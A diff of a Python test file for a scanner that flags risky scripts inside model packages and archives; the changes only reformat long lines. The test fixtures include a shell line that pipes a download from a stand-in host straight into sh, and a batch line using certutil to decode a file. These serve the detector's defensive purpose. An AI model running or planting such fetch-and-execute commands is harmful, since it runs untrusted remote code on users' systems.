@@ -3,7 +3,9 @@
 from kit.archives import Part, elf, macho, pe, usual_zip, zip_of
 from kit.trees import tree_codes
 
-WEIGHTS = (64).to_bytes(8, "little") + b'{"w":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}'.ljust(64) + b"\0"
+WEIGHTS = (
+    (64).to_bytes(8, "little") + b'{"w":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}'.ljust(64) + b"\0"
+)
 PROGRAM = elf(bytes(64))
 
 
@@ -65,11 +67,17 @@ def test_finds_scripts_that_run_what_they_download_anywhere():
     script = b"#!/bin/sh\ncurl http://x.example/a | sh\n"
     assert only(tree_codes({"run.sh": script})) == [("EXE201", "run.sh")]
     assert only(tree_codes({"m.zip": usual_zip({"run.sh": script})})) == [("EXE201", "m.zip!/run.sh")]
-    assert only(tree_codes({"start.bat": b"@echo off\r\ncertutil -decode a b\r\n"})) == [("EXE201", "start.bat")]
+    assert only(tree_codes({"start.bat": b"@echo off\r\ncertutil -decode a b\r\n"})) == [
+        ("EXE201", "start.bat")
+    ]
 
 
 def test_warns_of_scripts_to_double_click_beside_weights_and_leaves_helpers_alone():
-    files = {"model.safetensors": WEIGHTS, "start.bat": b"python loader.py\r\n", "train.sh": b"python train.py\n"}
+    files = {
+        "model.safetensors": WEIGHTS,
+        "start.bat": b"python loader.py\r\n",
+        "train.sh": b"python train.py\n",
+    }
     assert only(tree_codes(files)) == [
         ("EXE202", "start.bat"),
         ("EXE203", "start.bat"),
